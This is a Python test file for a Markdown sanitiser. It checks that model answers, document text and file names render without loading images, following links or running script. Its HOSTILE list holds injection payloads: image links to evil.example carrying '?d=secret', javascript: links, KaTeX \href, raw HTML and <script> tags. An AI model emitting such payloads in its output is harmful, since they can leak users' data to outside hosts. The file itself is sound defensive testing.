"""Untrusted text is shown safely: nothing from a document, a file name or the model loads, links or runs.

Each output is parsed again, the way the browser's Markdown renderer will read it (CommonMark
with GitHub's tables and autolinked addresses, and ``$…$`` maths), and checked for images,
links, raw HTML, addresses that would be linked, and maths.
"""
from __future__ import annotations

import re

import pytest

from core.render import (
    ZWSP, highlight_html, literal_markdown, safe_markdown,
    stream_markdown,
)
from tests.inert import PARSER, assert_inert, tokens, visible

HOSTILE = {
    "image": "![chart](https://evil.example/x.png?d=secret)",
    "nested brackets": "![a [b] c](//evil.example/x.png)",
    "escaped bracket": "![a\\]b](//evil.example/x.png)",
    "reference in a list": "![r]\n\n- [r]: //evil.example/x.png",
    "reference definition": "![logo][1]\n\n[1]: https://evil.example/logo.png",
    "collapsed reference": "![logo][]\n\n[logo]: <//evil.example/l.png> \"t\"",
    "scheme-relative image": "![x](//evil.example/x.png)",
    "scheme-relative link": "[x](//evil.example)",
    "nested-bracket link": "[a [b] c](//evil.example)",
    "link with a title": "[a](//evil.example \"title\")",
    "image inside a link": "[![a](//evil.example/i.png)](//evil.example)",
    "angle destination": "![a](<//evil.example/x y.png>)",
    "data image": "![a](data:image/png;base64,iVBORw0KGgo=)",
    "javascript link": "[a](javascript:alert(1))",
    "bare address": "Go to https://evil.example/a?b=c now",
    "upper-case address": "Go to HTTPS://EVIL.EXAMPLE/A now",
    "www address": "Go to www.evil.example today",
    "e-mail address": "Write to leak@evil.example today",
    "mailto": "Write to mailto:leak@evil.example",
    "autolink": "See <https://evil.example/x>",
    "e-mail autolink": "See <leak@evil.example>",
    "raw image tag": '<img src="//evil.example/p.png">',
    "raw link tag": "<a href='//evil.example'>x</a>",
    "html block": "<div>\n<img src=//evil.example/p.png>\n</div>",
    "html comment": "<!-- ![x](//evil.example/c.png) -->",
    "katex href": "$\\href{https://evil.example}{click}$",
    "katex display": "$$\n\\href{//evil.example}{x}\n$$",
    "katex image": "$\\includegraphics{//evil.example/x.png}$",
    "image in a heading": "# Title ![h](//evil.example/h.png)",
    "image in a table": "| a | b |\n|---|---|\n| 1 | ![z](//evil.example/z.png) |",
    "image in a quote": "> ![q](//evil.example/q.png)",
    "image in a list": "1. one\n2. ![l](//evil.example/l.png)\n   - [x](//evil.example)",
    "footnote": "Claim[^1]\n\n[^1]: //evil.example/f",
    "entity bang": "&#33;[x](//evil.example/x.png)",
    "directive": ":red[x] :material/home: ![x](//evil.example/d.png)",
    "split over lines": "![x](\n//evil.example/x.png\n)",
    "citation marker before an address": "See \\[1\\](//evil.example/x.png)\n\\[2\\]: //evil.example/d.png\n![a][2]",
}

@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_model_output_never_loads_links_or_runs_anything(text):
    assert_inert(safe_markdown(text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_document_text_in_a_label_is_shown_exactly_as_written(text):
    out = literal_markdown(text)
    assert_inert(out)
    assert re.sub(r"\s+", "", visible(out)) == re.sub(r"\s+", "", text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_streamed_pieces_stay_inert_however_the_text_is_cut(text):
    for cut in range(1, len(text)):
        out = stream_markdown(text[:cut]) + stream_markdown(text[cut:])
        assert_inert(out)
    assert stream_markdown(text).replace("\\", "").replace(ZWSP, "") == text.replace("\\", "")


@pytest.mark.parametrize("name", ["![x](https:host?leak).pdf", "<img src=//evil.example/a>.docx",
                                  "[a [b] c](//evil.example).pdf", "$\\href{//e.x}{y}$.pdf", "a\\]b & c.pdf"])
def test_hostile_file_names_read_literally(name):
    out = literal_markdown(name)
    assert_inert(out)
    assert visible(out) == name


def test_visible_words_of_images_and_links_stay():
    assert visible(safe_markdown(HOSTILE["nested-bracket link"])) == "a [b] c"
    assert visible(safe_markdown(HOSTILE["nested brackets"])) == "[image not shown: a [b] c]"
    assert visible(safe_markdown(HOSTILE["escaped bracket"])) == "[image not shown: a]b]"
    assert visible(safe_markdown(HOSTILE["reference in a list"])) == "[image not shown: r]"
    assert "evil.example" not in safe_markdown(HOSTILE["reference definition"])
    assert visible(safe_markdown(HOSTILE["raw image tag"])) == HOSTILE["raw image tag"]


def test_formatting_of_an_answer_is_kept():
    answer = ("## Returns\n\n**Bikes** can be returned within *30 days* [1].\n\n1. Keep the receipt\n"
              "2. Bring the bike\n   - with its ~~box~~\n\n> Note\n\n```\ncode $x\n```\n\n| Item | Days |\n"
              "|:--|--:|\n| Bike | 30 |")
    out = safe_markdown(answer)
    kinds = [t.type for t in PARSER.parse(out)]
    for kind in ("heading_open", "ordered_list_open", "bullet_list_open", "blockquote_open", "fence", "table_open"):
        assert kind in kinds
    inline = [t.type for t in tokens(out)]
    assert {"strong_open", "em_open", "s_open"} <= set(inline)
    assert safe_markdown(out) == out  # stable: rendering twice changes nothing


def test_citation_markers_become_the_callers_badges():
    out = safe_markdown("Staff get 25 days [1], see [2] and [9].", cite=lambda n: f":green-badge[{n}]" if n < 3 else None)
    assert ":green-badge[1]" in out and ":green-badge[2]" in out and "\\[9\\]" in out
    assert "evil" not in safe_markdown("[1](//evil.example/x)", cite=lambda n: f"<{n}>")


def test_dollar_signs_stay_money_not_maths_but_code_is_untouched():
    out = safe_markdown("The Trail 500 costs $1299 or $1899 with `$HOME` unchanged")
    assert "\\$1299" in out and "\\$1899" in out
    assert "`$HOME`" in out  # inside code a backslash would show, so none is added


def test_literal_markdown_shows_a_file_name_exactly():
    out = literal_markdown("**Q1** [draft]_v2 $5 #1.pdf")
    assert out == "\\*\\*Q1\\*\\* \\[draft\\]\\_v2 \\$5 \\#1.pdf"


def test_an_address_in_an_answer_is_code_with_its_punctuation_outside():
    out = safe_markdown("Ollama isn't running at http://127.0.0.1:11434; open it. See www.example.com.")
    assert "`http://127.0.0.1:11434`;" in out and "`www.example.com`." in out


def test_links_and_images_keep_only_their_words():
    assert safe_markdown("**Bold** [link](//evil.example) ![img](//evil.example/x.png)") == \
        "**Bold** link \\[image not shown\\: img\\]"


def test_highlight_escapes_html_and_marks_words():
    out = highlight_html("Returns <script>alert(1)</script> within 30 days", ["returns", "days"])
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert "<mark>Returns</mark>" in out and "<mark>days</mark>" in out


@pytest.mark.parametrize("ending", ["\n\n", "\r\r", "\r\n\r\n", "\u2028\u2028"])
def test_highlighted_text_stays_one_line_of_inert_html(ending):
    """A blank line would end the HTML block, and what follows would be read as Markdown."""
    out = highlight_html(f"Intro{ending}![x](//evil.example/x.png) $\\href{{//e.x}}{{y}}$ www.evil.example", ["intro"])
    assert not re.search(r"[\r\n\u2028\u2029]", out)
    html_block = f"<div class='gw-passage'>{out}</div>"
    assert [t.type for t in PARSER.parse(html_block)] == ["html_block"]
